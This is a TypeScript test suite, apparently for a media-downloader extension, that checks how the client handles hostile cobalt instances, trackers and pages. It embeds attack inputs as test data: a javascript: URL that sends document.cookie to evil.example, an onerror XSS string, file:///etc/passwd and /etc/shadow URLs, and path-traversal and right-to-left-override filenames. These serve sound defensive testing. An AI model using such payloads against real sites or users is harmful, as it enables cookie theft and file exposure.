import type { AttemptOutcome } from '../../lib/cobalt/cobalt-result';
import { MAX_ANSWER_BYTES, requestInstance } from '../../lib/cobalt/request-instance';
import { MAX_WAIT_SECONDS } from '../../lib/cobalt/rate-limit';
import type { Job } from '../../lib/app/job';
import { DEFAULT_MAX_BYTES } from '../../lib/net/http';
import { bundledSnapshot } from '../../lib/sources/bundled-snapshot';
import { probeInstance } from '../../lib/probe/probe-instance';
import { MAX_FILENAME_CHARS } from '../../lib/safety/sanitize-filename';
import { SERVICE_KEYS } from '../../lib/services/service-key';
import { DownloadOptionsSchema } from '../../lib/settings/schema';
import { deliverResult } from '../../lib/submit/deliver-result';
import { trailMessageKey } from '../../lib/submit/trail-message-key';
import { startCobaltServer, type CobaltServer, type StartOptions } from '../support/cobalt-server';
import {
  fetchingDownloads,
  loopbackSettings,
  memoryStorage,
  startEngine,
  until,
  type Harness,
} from '../support/engine-harness';
import { startHostileServer, type HostileServer, type Responder } from '../support/hostile-server';
import { tag } from '../support/server-registry';
import { startTrackerServer, type TrackerServer } from '../support/tracker-server';

/**
 * The adversarial catalogue: community instances and trackers are run by strangers. Each case is
 * one hostile or broken answer, sent over real HTTP on 127.0.0.1 to the real client (lib/cobalt's
 * requestInstance, or the whole engine through the harness), with the outcome the user sees: the
 * trail code and its plain-words key, the UserError, the name of the file that landed, the cap.
 * The suite-wide invariants (test/support/invariants.ts) also hold over every request here: no
 * key off its origin, nothing sent to what must not be contacted, no page URL without a click.
 */

const YT = 'https://www.youtube.com/watch?v=dQw4w9WgXcQ';
const TWEET = 'https://x.com/user/status/1697304622749086011';
const KEY = '582f214c-8531-40d5-9a5c-7f51ae99319d';
const DEFAULTS = DownloadOptionsSchema.parse({});
const fetchImpl = globalThis.fetch.bind(globalThis);
const BUNDLED_ORIGINS = bundledSnapshot().entries.map((e) => e.origin);

const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  await Promise.all(cleanups.splice(0).map((close) => close()));
});

async function hostile(responder: Responder): Promise<HostileServer> {
  const server = await startHostileServer(responder);
  cleanups.push(() => server.close());
  return server;
}

async function cobalt(options: StartOptions = {}): Promise<CobaltServer> {
  const server = await startCobaltServer(options);
  cleanups.push(() => server.close());
  return server;
}

async function tracker(): Promise<TrackerServer> {
  const server = await startTrackerServer({ defaults: false });
  cleanups.push(() => server.close());
  return server;
}

/** One attempt, as the chain makes it. */
function attempt(origin: string, patch: Partial<Parameters<typeof requestInstance>[0]> = {}) {
  return requestInstance({
    fetch: fetchImpl,
    origin,
    version: '11.7.1',
    url: YT,
    options: DEFAULTS,
    timeoutMs: 3000,
    ...patch,
  });
}

function failure(outcome: AttemptOutcome) {
  if (outcome.ok) throw new Error(`expected a failure, got ${JSON.stringify(outcome.result)}`);
  return { ...outcome.error, messageKey: trailMessageKey('failed', outcome.error.code) };
}

/** A hyper.lol feed entry for any loopback origin (the test settings allow http and IPs). */
function entry(origin: string, extra: Record<string, unknown> = {}) {
  return {
    api: origin.replace('http://', ''),
    protocol: 'http',
    frontEnd: 'None',
    trust: 'safe',
    api_online: true,
    version: '11.7.1',
    score: 90,
    services: { youtube: true, twitter: true },
    ...extra,
  };
}

/** A tunnel answer whose bytes this hostile server serves itself at /file/<name>. */
function tunnelFrom(server: () => HostileServer, name = 'video.mp4'): Responder {
  return (req) => {
    if (req.method === 'POST') {
      return {
        status: 200,
        json: { status: 'tunnel', url: `${server().origin}/file/${name}`, filename: name },
      };
    }
    if (req.path.startsWith('/file/')) {
      return { status: 200, headers: { 'Content-Type': 'video/mp4' }, body: Buffer.alloc(512, 7) };
    }
    return { status: 200, json: { cobalt: { version: '11.7.1', services: ['youtube'] } } };
  };
}

/** An engine whose custom feed lists these origins (in order, pinned in that order). */
async function engineFor(
  origins: string[],
  options: {
    feed?: Record<string, unknown>[];
    settings?: Record<string, unknown>;
    tabs?: Record<number, string>;
  } = {},
): Promise<Harness> {
  const feed = await tracker();
  feed.setFeed('/feed.json', JSON.stringify(options.feed ?? origins.map((o) => entry(o))));
  const h = startEngine({ tabs: options.tabs ?? { 7: YT } });
  const saved = await h.engine.handle({
    type: 'settings/save',
    payload: {
      settings: loopbackSettings(`${feed.url}/feed.json`, {
        pinned: origins,
        // The chain stops at these servers, and the bundled snapshot's public instances (always
        // known underneath the feeds) are blocked: nothing here ever tries to leave loopback.
        fallback: { maxAttempts: Math.max(1, origins.length), deadlineMs: 15_000, hedgeMs: 5000 },
        ...options.settings,
        blocked: [
          ...BUNDLED_ORIGINS,
          ...((options.settings?.blocked as string[] | undefined) ?? []),
        ],
      }),
    },
  });
  expect(saved).toEqual({ ok: true });
  await h.engine.handle({ type: 'sources/refresh', payload: {} });
  return h;
}

/** Starts a download as the user would (the popup's button) and waits for the chain to end. */
async function download(h: Harness, url: string | null = null): Promise<Job> {
  const start = await h.engine.handle({
    type: 'download/start',
    payload: { tabId: 7, url, mode: 'auto' },
  });
  if (!('jobId' in start)) throw new Error(`refused: ${JSON.stringify(start)}`);
  return until(() => {
    const job = h.engine.state().jobs.find((j) => j.id === start.jobId);
    return job && job.state !== 'running' && job.state !== 'downloading' ? job : undefined;
  }, 15_000);
}

function posts(server: { requests: { method: string }[] }): number {
  return server.requests.filter((r) => r.method === 'POST').length;
}

// ---------------------------------------------------------------------------------------------

describe('answers that are not cobalt answers', () => {
  it('HTML instead of JSON (a 200 parked-domain page): failover, "server error" in the trail', async () => {
    const server = await hostile(() => ({
      status: 200,
      headers: { 'Content-Type': 'text/html' },
      body: '<!doctype html><title>Domain for sale</title>',
    }));
    expect(failure(await attempt(server.origin))).toMatchObject({
      code: 'client.bad_response',
      action: 'failover',
      messageKey: 'trail_server_error',
    });
  });

  it('a Cloudflare-style HTML 403 block page: failover, "server error" in the trail', async () => {
    const server = await cobalt({ behavior: { kind: 'html-error', status: 403 } });
    expect(failure(await attempt(server.origin))).toMatchObject({
      code: 'client.bad_response',
      action: 'failover',
      messageKey: 'trail_server_error',
    });
  });

  it('invalid (truncated) JSON: failover', async () => {
    const server = await hostile(() => ({
      status: 200,
      headers: { 'Content-Type': 'application/json' },
      body: '{"status":"tunnel","url":"http://127.0.0.1:1/tun',
    }));
    expect(failure(await attempt(server.origin))).toMatchObject({
      code: 'client.bad_response',
      action: 'failover',
    });
  });

  it('a 10 MB body with Content-Length: refused before reading, capped at MAX_ANSWER_BYTES', async () => {
    const server = await hostile(() => ({
      stream: true,
      status: 200,
      headers: { 'Content-Type': 'application/json' },
      totalBytes: 10 * 1024 * 1024,
      declareLength: true,
    }));
    expect(failure(await attempt(server.origin))).toMatchObject({
      code: 'client.response_too_large',
      action: 'failover',
      messageKey: 'trail_server_error',
    });
    expect(MAX_ANSWER_BYTES).toBe(256 * 1024);
    // The client cancelled: far from all of the 10 MB went out.
    await new Promise((r) => setTimeout(r, 100));
    expect(server.bytesWritten()).toBeLessThan(5 * 1024 * 1024);
  });

  it('a 10 MB chunked body (no length): read up to the 256 KB cap, then cancelled', async () => {
    const server = await hostile(() => ({
      stream: true,
      status: 200,
      headers: { 'Content-Type': 'application/json' },
      totalBytes: 10 * 1024 * 1024,
    }));
    const outcome = await attempt(server.origin);
    expect(failure(outcome)).toMatchObject({ code: 'client.response_too_large' });
    await new Promise((r) => setTimeout(r, 100));
    // What the socket accepted: the cap plus what kernel buffers hold, never the 10 MB.
    expect(server.bytesWritten()).toBeGreaterThan(MAX_ANSWER_BYTES);
    expect(server.bytesWritten()).toBeLessThan(5 * 1024 * 1024);
  });

  it('a body that never ends: timed out within the attempt timeout, failover', async () => {
    const server = await hostile(() => ({
      neverEnds: true,
      status: 200,
      headers: { 'Content-Type': 'application/json' },
      prefix: '{"status":"tunnel","url":"',
    }));
    const started = performance.now();
    const outcome = await attempt(server.origin, { timeoutMs: 800 });
    const elapsed = performance.now() - started;
    expect(failure(outcome)).toMatchObject({
      code: 'client.timeout',
      action: 'failover',
      messageKey: 'trail_timeout',
    });
    expect(elapsed).toBeGreaterThanOrEqual(750);
    expect(elapsed).toBeLessThan(3000);
  });

  it.each([
    [418, 'text/plain', "I'm a teapot", 'client.bad_response'],
    [599, 'text/plain', 'network connect timeout', 'client.http_5xx'],
    [204, 'application/json', '', 'client.bad_response'],
    [200, 'application/json', '', 'client.bad_response'],
    [
      200,
      'application/json',
      '{"status":"success","url":"http://127.0.0.1:1/x"}',
      'client.unknown_response',
    ],
  ])('unknown status %i (%s %j): %s, failover', async (status, type, body, code) => {
    const server = await hostile(() => ({ status, headers: { 'Content-Type': type }, body }));
    expect(failure(await attempt(server.origin))).toMatchObject({ code, action: 'failover' });
  });

  it('an odd status with a valid answer (207 + tunnel): the JSON decides, it is a tunnel', async () => {
    let self: HostileServer | null = null;
    const server = await hostile((req) => {
      const answer = tunnelFrom(() => self!)(req);
      return 'status' in answer && req.method === 'POST' ? { ...answer, status: 207 } : answer;
    });
    self = server;
    const outcome = await attempt(server.origin);
    expect(outcome).toMatchObject({ ok: true, result: { status: 'tunnel' } });
  });
});

describe('error codes nobody knows', () => {
  it.each([
    ['error.api.totally.new.thing', 'failover', 'instance', true, 'trail_failed'],
    ['error.api.content.brand_new_reason', 'stop', 'content', true, 'trail_content'],
    ['error.api.youtube.new_block', 'failover', 'instance', true, 'trail_service_blocked'],
    ['error.api.constructor', 'failover', 'instance', true, 'trail_failed'],
  ])(
    '%s → %s (%s), recorded as unrecognised',
    async (code, action, errorClass, unrecognised, key) => {
      const server = await hostile(() => ({
        status: 400,
        json: { status: 'error', error: { code, context: { service: 'youtube' } } },
      }));
      expect(failure(await attempt(server.origin))).toMatchObject({
        code,
        action,
        errorClass,
        unrecognised,
        messageKey: key,
      });
    },
  );

  it.each([
    ['a code with spaces and markup', 'error.api.<img src=x onerror=alert(1)>'],
    ['a 5,000-character code', `error.api.${'a'.repeat(5000)}`],
  ])('%s is not a code: bad response, failover', async (_name, code) => {
    const server = await hostile(() => ({
      status: 400,
      json: { status: 'error', error: { code } },
    }));
    const error = failure(await attempt(server.origin));
    expect(error).toMatchObject({ code: 'client.bad_response', action: 'failover' });
    expect(JSON.stringify(error)).not.toContain('onerror');
  });
});

describe('429 and Retry-After from a stranger: bounded, never trusted blindly', () => {
  const HOUR_MS = MAX_WAIT_SECONDS * 1000;
  it.each([
    ['huge', '999999999999', null, HOUR_MS],
    ['negative', '-5', null, 60_000],
    ['garbage', 'soon, maybe', null, 60_000],
    ['exponent', '1e9', null, 60_000],
    ['a date in the past', 'Wed, 21 Oct 2015 07:28:00 GMT', null, 0],
    ['a date years ahead', 'Fri, 01 Jan 2100 00:00:00 GMT', null, HOUR_MS],
    ['garbage, with a huge RateLimit-Reset', 'x', '999999999', HOUR_MS],
    ['garbage, with a RateLimit-Reset too long to be a number', 'x', '99999999999999', 60_000],
  ])(
    'Retry-After %s (%j): retry-later, quarantine ≤ 1 h',
    async (_name, retryAfter, reset, waitMs) => {
      const server = await hostile(() => ({
        status: 429,
        headers: {
          'Retry-After': retryAfter,
          ...(reset ? { 'RateLimit-Reset': reset, 'RateLimit-Remaining': '0' } : {}),
        },
        json: {
          status: 'error',
          error: { code: 'error.api.rate_exceeded', context: { limit: 60 } },
        },
      }));
      const before = Date.now();
      const error = failure(await attempt(server.origin));
      expect(error).toMatchObject({
        code: 'error.api.rate_exceeded',
        action: 'retry-later',
        messageKey: 'trail_rate_limited',
      });
      expect(error.retryAt).toBeGreaterThanOrEqual(before + waitMs - 1000);
      expect(error.retryAt).toBeLessThanOrEqual(Date.now() + waitMs + 1000);
      expect(error.retryAt).toBeLessThanOrEqual(Date.now() + HOUR_MS + 1000);
    },
  );

  it('a bare 429 from a proxy (text body): rate limited, Retry-After honoured', async () => {
    const server = await hostile(() => ({
      status: 429,
      headers: { 'Retry-After': '30', 'Content-Type': 'text/plain' },
      body: 'Too Many Requests',
    }));
    const before = Date.now();
    const error = failure(await attempt(server.origin));
    expect(error).toMatchObject({ code: 'client.rate_limited', action: 'retry-later' });
    expect(error.retryAt).toBeGreaterThanOrEqual(before + 29_000);
    expect(error.retryAt).toBeLessThanOrEqual(Date.now() + 31_000);
  });

  it('through the engine: a 429 with a week-long Retry-After benches the instance for at most an hour', async () => {
    const limited = await cobalt({
      behavior: { kind: 'rate-limited', retryAfter: '604800', reset: '604800' },
    });
    const healthy = await cobalt();
    const h = await engineFor([limited.origin, healthy.origin]);
    const job = await download(h);
    expect(job).toMatchObject({ state: 'done', servedBy: healthy.origin });
    const record = Object.values(h.engine.state().health).find((r) => r.origin === limited.origin);
    expect(record?.quarantinedUntil).toBeLessThanOrEqual(Date.now() + 3_600_000);
    expect(record?.quarantinedUntil).toBeGreaterThan(Date.now() + 3_000_000);
  });
});

describe('download URLs that are not http(s)', () => {
  it.each([
    'javascript:alert(document.cookie)',
    'data:video/mp4;base64,AAAAIGZ0eXBpc29t',
    'file:///etc/passwd',
    'chrome://settings/passwords',
    'blob:https://evil.example/5b8c4a52-2f6e-4a41-9d4e-1f2a3b4c5d6e',
  ])(
    'a tunnel to %s is refused; the chain moves on and only an http(s) file lands',
    async (url) => {
      const evil = await hostile(() => ({
        status: 200,
        json: { status: 'tunnel', url, filename: 'video.mp4' },
      }));
      const healthy = await cobalt();
      const h = await engineFor([evil.origin, healthy.origin]);
      const job = await download(h);
      expect(job).toMatchObject({ state: 'done', servedBy: healthy.origin });
      expect(job.trail[0]).toMatchObject({
        origin: evil.origin,
        outcome: 'failed',
        code: 'client.unsafe_url',
        messageKey: 'trail_unsafe_url',
      });
      await Promise.all(h.downloads.settled);
      expect(h.downloads.files.map((f) => new URL(f.request.url).origin)).toEqual([healthy.origin]);
    },
  );

  it('a picker mixing safe and unsafe items: only the http(s) items (and thumbnails) are offered', async () => {
    let self: HostileServer | null = null;
    const server = await hostile((req) => {
      if (req.method !== 'POST') return tunnelFrom(() => self!)(req);
      const cdn = (n: number) => `${self!.origin}/file/item-${n}.jpg`;
      return {
        status: 200,
        json: {
          status: 'picker',
          picker: [
            { type: 'photo', url: 'javascript:alert(1)', thumb: cdn(0) },
            { type: 'photo', url: cdn(1), thumb: 'data:image/png;base64,AA' },
            { type: 'video', url: 'file:///etc/shadow' },
            { type: 'gif', url: cdn(3), thumb: cdn(3) },
          ],
          audio: 'chrome://downloads',
        },
      };
    });
    self = server;
    const h = await engineFor([server.origin], { tabs: { 7: TWEET } });
    const job = await download(h);
    expect(job.state).toBe('picker');
    expect(
      job.picker?.items.map((i) => [
        i.type,
        i.url.endsWith('item-1.jpg') || i.url.endsWith('item-3.jpg'),
        i.thumb,
      ]),
    ).toEqual([
      ['photo', true, null],
      ['gif', true, `${server.origin}/file/item-3.jpg`],
    ]);
    expect(job.picker?.audio).toBeNull();
  });

  it('every instance answers unsafe URLs: the user gets "no instance could do it", in plain words', async () => {
    const a = await hostile(() => ({
      status: 200,
      json: { status: 'redirect', url: 'javascript:1' },
    }));
    const b = await hostile(() => ({
      status: 200,
      json: { status: 'local-processing', type: 'proxy', tunnel: ['file:///etc/passwd'] },
    }));
    const h = await engineFor([a.origin, b.origin]);
    const job = await download(h);
    expect(job.state).toBe('failed');
    expect(job.error).toMatchObject({ kind: 'instances', titleKey: 'error_instances_title' });
    expect(job.trail.map((t) => t.code)).toEqual(['client.unsafe_url', 'client.unsafe_url']);
    expect(h.downloads.files).toEqual([]);
    await until(() => h.notifications.length > 0);
    expect(h.notifications[0]).toMatchObject({ titleKey: 'notifyFailedTitle' });
  });
});

describe('tunnels on another host than the instance', () => {
  it("a tunnel on another site is refused even from the user's own keyed instance: that site is never contacted", async () => {
    const elsewhere = await hostile(() => ({
      status: 200,
      headers: { 'Content-Type': 'text/html' },
      body: '<!doctype html><title>Online banking</title>',
    }));
    const instance = await hostile((req) =>
      req.method === 'POST'
        ? {
            status: 200,
            json: {
              status: 'tunnel',
              url: `${elsewhere.origin}/tunnel?id=abc&exp=1&sig=x&sec=y&iv=z`,
              filename: 'video.mp4',
            },
          }
        : { status: 404 },
    );
    const h = await engineFor([instance.origin], {
      settings: { myInstances: [{ origin: instance.origin, apiKey: KEY }] },
    });
    const job = await download(h);
    expect(job.state).toBe('failed');
    expect(job.trail[0]).toMatchObject({
      origin: instance.origin,
      outcome: 'failed',
      code: 'client.target.foreign_tunnel',
      messageKey: 'trail_target_foreign_tunnel',
    });
    expect(h.downloads.files).toEqual([]);
    expect(elsewhere.requests).toEqual([]);
  });
});

describe('hostile filenames: the file lands under a safe name', () => {
  it.each([
    ['../ traversal', '../../.ssh/authorized_keys', '_._.ssh_authorized_keys'],
    ['/ separators', 'clips/2024/cat.mp4', 'clips_2024_cat.mp4'],
    [
      '\\ separators and a drive',
      'C:\\Windows\\System32\\evil.exe',
      'C__Windows_System32_evil.exe',
    ],
    ['NUL', 'video\u0000.mp4.exe', 'video.mp4.exe'],
    [
      'control characters and ANSI escapes',
      'ctl\u0001\u001b[31m\u007f\u009fred.mp4',
      'ctl[31mred.mp4',
    ],
    ['reserved Windows name CON', 'CON.mp4', '_CON.mp4'],
    ['reserved Windows name nul, no extension', 'nul', '_nul'],
    ['reserved Windows name LPT1', 'LPT1.txt', '_LPT1.txt'],
    ['500 characters', `${'a'.repeat(496)}.mp4`, `${'a'.repeat(MAX_FILENAME_CHARS - 4)}.mp4`],
    ['no extension', 'noextension', 'noextension'],
    ['right-to-left override', 'evil\u202egpj.exe', 'evilgpj.exe'],
    // Nothing usable left of the instance's name: lib/cobalt names it `download`.
    ['zero-width only', '\u200b\u200b.mp4', 'download.mp4'],
    ['only dots', '...', 'download'],
  ])('%s', async (_name, filename, expected) => {
    const server = await cobalt({ filename });
    const outcome = await attempt(server.origin);
    if (!outcome.ok) throw new Error(outcome.error.code);
    const downloads = fetchingDownloads();
    const delivered = await deliverResult({
      result: outcome.result,
      download: downloads,
      filenameFallback: 'youtube-fallback',
      saveAs: false,
    });
    expect(delivered).toMatchObject({ kind: 'downloading', filename: expected });
    await Promise.all(downloads.settled);
    const [file] = downloads.files;
    expect(file?.request.filename).toBe(expected);
    expect(file?.bytes.length).toBe(server.config.tunnelBytes);
    // eslint-disable-next-line no-control-regex -- control characters are what is checked
    expect(expected).not.toMatch(/[/\\\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect([...expected].length).toBeLessThanOrEqual(MAX_FILENAME_CHARS);
  });
});

describe('pickers from a stranger', () => {
  const pickerOf =
    (server: () => HostileServer, count: number): Responder =>
    (req) => {
      if (req.method !== 'POST') return tunnelFrom(server)(req);
      const picker = Array.from({ length: count }, (_, i) => ({
        type: 'photo',
        url: `${server().origin}/file/${i}.jpg`,
      }));
      return { status: 200, json: { status: 'picker', picker } };
    };

  it('10,000 items: over the answer cap, refused; the chain moves to the next instance', async () => {
    let self: HostileServer | null = null;
    const huge = await hostile(pickerOf(() => self!, 10_000));
    self = huge;
    const healthy = await cobalt({ behavior: { kind: 'healthy', result: 'picker' } });
    const h = await engineFor([huge.origin, healthy.origin], { tabs: { 7: TWEET } });
    const job = await download(h);
    expect(job.trail[0]).toMatchObject({
      origin: huge.origin,
      code: 'client.response_too_large',
      messageKey: 'trail_server_error',
    });
    expect(job).toMatchObject({ state: 'picker', servedBy: healthy.origin });
  });

  it('2,000 items under the cap: offered, and exactly the picked ones download', async () => {
    let self: HostileServer | null = null;
    const many = await hostile(pickerOf(() => self!, 2000));
    self = many;
    const h = await engineFor([many.origin], { tabs: { 7: TWEET } });
    const job = await download(h);
    expect(job.state).toBe('picker');
    expect(job.picker?.items).toHaveLength(2000);
    const picked = await h.engine.handle({
      type: 'download/pick',
      payload: { jobId: job.id, indexes: [1999, 0, 0, 5000, -1], audio: false },
    });
    expect(picked).toEqual({ ok: true });
    await Promise.all(h.downloads.settled);
    expect(h.downloads.files.map((f) => f.request.url.split('/').at(-1))).toEqual([
      '0.jpg',
      '1999.jpg',
    ]);
  });
});

describe('redirects are never followed', () => {
  it('a 307 to another origin (with the key on the request): failover, the other origin hears nothing', async () => {
    const elsewhere = await cobalt();
    const redirecting = await cobalt({
      apiKeys: [KEY],
      behavior: { kind: 'redirect', location: `${elsewhere.origin}/`, status: 307 },
    });
    const healthy = await cobalt();
    const h = await engineFor([redirecting.origin, healthy.origin], {
      settings: { myInstances: [{ origin: redirecting.origin, apiKey: KEY }] },
    });
    const job = await download(h);
    expect(job).toMatchObject({ state: 'done', servedBy: healthy.origin });
    expect(job.trail[0]).toMatchObject({
      origin: redirecting.origin,
      code: 'client.redirect',
      messageKey: 'trail_server_error',
    });
    expect(elsewhere.requests).toEqual([]);
    expect(redirecting.requests.find((r) => r.method === 'POST')?.headers.authorization).toBe(
      `Api-Key ${KEY}`,
    );
  });

  it('a redirect to the same origin is not followed either', async () => {
    const server = await hostile((req) =>
      req.method === 'POST' ? { status: 308, headers: { Location: '/api/v2' } } : { status: 404 },
    );
    expect(failure(await attempt(server.origin, { apiKey: KEY }))).toMatchObject({
      code: 'client.redirect',
    });
    expect(server.requests.map((r) => r.path)).toEqual(['/']);
  });

  it('a probe whose GET / redirects to another site: probe failed, the other site not contacted', async () => {
    const elsewhere = await cobalt();
    const server = await hostile(() => ({
      status: 302,
      headers: { Location: `${elsewhere.origin}/api/serverInfo` },
    }));
    const probe = await probeInstance({ fetch: fetchImpl, origin: server.origin, timeoutMs: 2000 });
    expect(probe).toMatchObject({ ok: false, error: 'Redirects to another site' });
    expect(elsewhere.requests).toEqual([]);
  });
});

describe('what GET / claims', () => {
  const claimEverything = {
    cobalt: {
      version: '11.7.1',
      services: [
        ...SERVICE_KEYS,
        'bluesky',
        'twitch clips',
        'constructor',
        '__proto__',
        'toString',
        ...Array.from({ length: 150 }, (_, i) => `made-up-service-${i}`),
      ],
    },
  };

  it('claiming every service (and some that do not exist): only real services are believed; when it then refuses, the chain moves on and it is benched', async () => {
    const liar = await hostile((req) =>
      req.method === 'POST'
        ? { status: 400, json: { status: 'error', error: { code: 'error.api.service.disabled' } } }
        : { status: 200, json: claimEverything },
    );
    const probe = await probeInstance({ fetch: fetchImpl, origin: liar.origin, timeoutMs: 2000 });
    expect(probe.ok).toBe(true);
    expect([...(probe.services ?? [])].sort()).toEqual([...SERVICE_KEYS].sort());

    const healthy = await cobalt();
    const h = await engineFor([liar.origin, healthy.origin], {
      settings: { probe: { enabled: true, concurrency: 2, timeoutMs: 2000, cacheMinutes: 15 } },
    });
    await h.engine.handle({ type: 'popup/snapshot', payload: { tabId: 7 } });
    await until(() => h.engine.state().probes[liar.origin]);
    const job = await download(h);
    expect(job).toMatchObject({ state: 'done', servedBy: healthy.origin });
    expect(job.trail[0]).toMatchObject({
      code: 'error.api.service.disabled',
      messageKey: 'trail_service_disabled',
    });
    const snap = await h.engine.handle({ type: 'popup/snapshot', payload: { tabId: 7 } });
    const row = snap.instances.find((i) => i.origin === liar.origin);
    expect(row?.excluded).toBe(true);
  });

  it.each<[string, unknown]>([
    ['banana', 'banana'],
    ['empty', ''],
    ['a bare major', '11'],
    ['a huge major', '999999999999999.1'],
    ['11.x', '11.x'],
    ['an object', { major: 11 }],
    ['a future major (number)', 12.5],
    ['a v7 version inside a v10+ answer', '7.15'],
  ])(
    'GET / reports a version that does not parse (%s): the probe says so, the minimal {url} body goes to POST /, and it works',
    async (_name, version) => {
      let self: HostileServer | null = null;
      const server = await hostile((req) => {
        if (req.method === 'GET' && req.path === '/') {
          return { status: 200, json: { cobalt: { version, services: ['youtube'] } } };
        }
        return tunnelFrom(() => self!)(req);
      });
      self = server;
      // Settings far from the defaults: none of them may reach an instance we cannot place.
      const h = await engineFor([server.origin], {
        settings: {
          probe: { enabled: true, concurrency: 2, timeoutMs: 2000, cacheMinutes: 15 },
          download: { audioFormat: 'opus', convertGif: false, videoQuality: '720' },
        },
      });
      await h.engine.handle({ type: 'popup/snapshot', payload: { tabId: 7 } });
      const probe = await until(() => h.engine.state().probes[server.origin]);
      expect(probe.ok).toBe(true);
      expect((probe.version ?? '').length).toBeLessThanOrEqual(64);
      const job = await download(h);
      expect(job).toMatchObject({ state: 'done', servedBy: server.origin });
      const sent = server.requests.filter((r) => r.method === 'POST');
      expect(sent.map((r) => [r.path, JSON.parse(r.body)])).toEqual([['/', { url: YT }]]);
    },
  );
});

describe('hostile trackers', () => {
  it('prototype names in a feed ("constructor", "__proto__"): the snapshot is stored and survives a restart', async () => {
    const server = await cobalt();
    const feed = await tracker();
    feed.setFeed(
      '/feed.json',
      `[${JSON.stringify(entry(server.origin)).slice(0, -1)},"trust":"constructor","services":{"constructor":true,"__proto__":false,"youtube":true}}]`,
    );
    const storage = memoryStorage();
    const first = startEngine({ storage, tabs: { 7: YT } });
    await first.engine.handle({
      type: 'settings/save',
      payload: {
        settings: loopbackSettings(`${feed.url}/feed.json`, {
          pinned: [server.origin],
          trust: {
            allowListed: true,
            allowUnknown: true,
            allowHttp: true,
            allowIpOnly: true,
            allowLegacyV7: false,
          },
        }),
      },
    });
    await first.engine.handle({ type: 'sources/refresh', payload: {} });
    const second = startEngine({ storage, tabs: { 7: YT } });
    const snap = await second.engine.handle({ type: 'popup/snapshot', payload: { tabId: 7 } });
    expect(snap.notices).toEqual([]);
    const row = snap.instances.find((i) => i.origin === server.origin);
    expect(row?.excluded).toBe(false);
    const stored = JSON.stringify([...storage.data.values()]);
    expect(stored).not.toContain('function');
    expect((await download(second)).state).toBe('done');
  });

  it('a 10 MB feed: capped at 2 MB, an error for that source, the last good instances kept', async () => {
    const server = await cobalt();
    const feed = await tracker();
    const huge = await hostile(() => ({
      stream: true,
      status: 200,
      headers: { 'Content-Type': 'application/json' },
      totalBytes: 10 * 1024 * 1024,
      fill: '[',
    }));
    feed.setFeed('/feed.json', JSON.stringify([entry(server.origin)]));
    const h = startEngine({ tabs: { 7: YT } });
    const settings = (url: string) =>
      loopbackSettings(url, { pinned: [server.origin] }) as Record<string, unknown>;
    await h.engine.handle({
      type: 'settings/save',
      payload: { settings: settings(`${feed.url}/feed.json`) },
    });
    await h.engine.handle({ type: 'sources/refresh', payload: {} });
    // The user's list now points at a hostile host (same source id is not needed: a second list).
    const both = {
      ...settings(`${feed.url}/feed.json`),
      sources: {
        hyper: false,
        directory: false,
        cobaltBest: false,
        custom: [
          { url: `${feed.url}/feed.json`, enabled: true },
          { url: `${huge.origin}/instances.json`, enabled: true },
        ],
        refreshMinutes: 60,
      },
    };
    await h.engine.handle({ type: 'settings/save', payload: { settings: both } });
    const feeds = await h.engine.handle({ type: 'sources/refresh', payload: {} });
    expect(DEFAULT_MAX_BYTES).toBe(2 * 1024 * 1024);
    const hostileFeed = JSON.stringify(feeds.find((f) => JSON.stringify(f).includes(huge.origin)));
    expect(hostileFeed).toMatch(/too large/i);
    // Per request: a settings change refreshes the new list, and "refresh now" fetches it again.
    const fetches = huge.requests.filter((r) => r.path === '/instances.json').length;
    expect(fetches).toBeGreaterThanOrEqual(1);
    expect(huge.bytesWritten() / fetches).toBeLessThan(6 * 1024 * 1024);
    expect((await download(h)).servedBy).toBe(server.origin);
  });

  it('a feed marking instances not_safe, Turnstile or offline: they are never contacted, the safe one serves', async () => {
    const notSafe = await cobalt();
    const turnstile = await cobalt({ turnstileSitekey: '0x4AAAAAAA-test' });
    const offline = await cobalt();
    const safe = await cobalt();
    const h = await engineFor([notSafe.origin, turnstile.origin, offline.origin, safe.origin], {
      feed: [
        entry(notSafe.origin, { trust: 'not_safe' }),
        entry(turnstile.origin, { turnstile: true }),
        entry(offline.origin, {
          api_online: false,
          trust: 'offline',
          version: 'Offline',
          score: -1,
        }),
        entry(safe.origin),
      ],
      settings: { probe: { enabled: true, concurrency: 4, timeoutMs: 2000, cacheMinutes: 15 } },
    });
    await h.engine.handle({ type: 'popup/snapshot', payload: { tabId: 7 } });
    await until(() => h.engine.state().probes[safe.origin]);
    const job = await download(h);
    expect(job).toMatchObject({ state: 'done', servedBy: safe.origin });
    expect(job.trail.map((t) => t.origin)).toEqual([safe.origin]);
    for (const never of [notSafe, turnstile, offline]) expect(never.requests).toEqual([]);
  });
});

describe('hostile pages', () => {
  it.each([
    ['a javascript: URL', 'javascript:fetch("//evil.example?c="+document.cookie)'],
    ['user-info hiding the real host', 'https://www.youtube.com@evil.example/watch?v=dQw4w9WgXcQ'],
    ['a look-alike suffix', 'https://youtube.com.evil.example/watch?v=dQw4w9WgXcQ'],
    ['a file: URL', 'file:///home/user/Videos/private.mp4'],
    ['a browser page', 'chrome://settings/passwords'],
    ['a 20,000-character link', `https://www.youtube.com/watch?v=${'a'.repeat(20_000)}`],
  ])('%s: "not supported" in plain words, nothing is sent anywhere', async (_name, url) => {
    const server = await cobalt();
    const h = await engineFor([server.origin], { tabs: { 7: url } });
    // Refused (the dispatcher turns the Refusal into a `user` error reply).
    await expect(
      h.engine.handle({ type: 'download/start', payload: { tabId: 7, url: null, mode: 'auto' } }),
    ).rejects.toMatchObject({
      userError: { kind: 'input', titleKey: 'error_unsupported_page_title' },
    });
    expect(posts(server)).toBe(0);
  });

  it('a page URL with credentials and tracking: only the clean media link leaves, only to the instance tried', async () => {
    const first = await cobalt();
    const second = await cobalt();
    const page =
      'https://alice:hunter2@www.youtube.com/watch?v=dQw4w9WgXcQ&utm_source=evil&si=track#t=1';
    const h = await engineFor([first.origin, second.origin], { tabs: { 7: page } });
    const job = await download(h);
    expect(job.servedBy).toBe(first.origin);
    const sent = first.requests.filter((r) => r.method === 'POST').map((r) => r.body);
    expect(sent).toEqual([JSON.stringify({ url: YT })]);
    expect(JSON.stringify(first.requests)).not.toMatch(/hunter2|alice|utm_source|si=track/);
    expect(second.requests).toEqual([]);
  });
});

describe('the user is in charge', () => {
  it('a blocked instance is never contacted, even when pinned first and listed as safe', async () => {
    const blocked = await cobalt();
    const healthy = await cobalt();
    tag(blocked.origin, 'blocked');
    const h = await engineFor([blocked.origin, healthy.origin], {
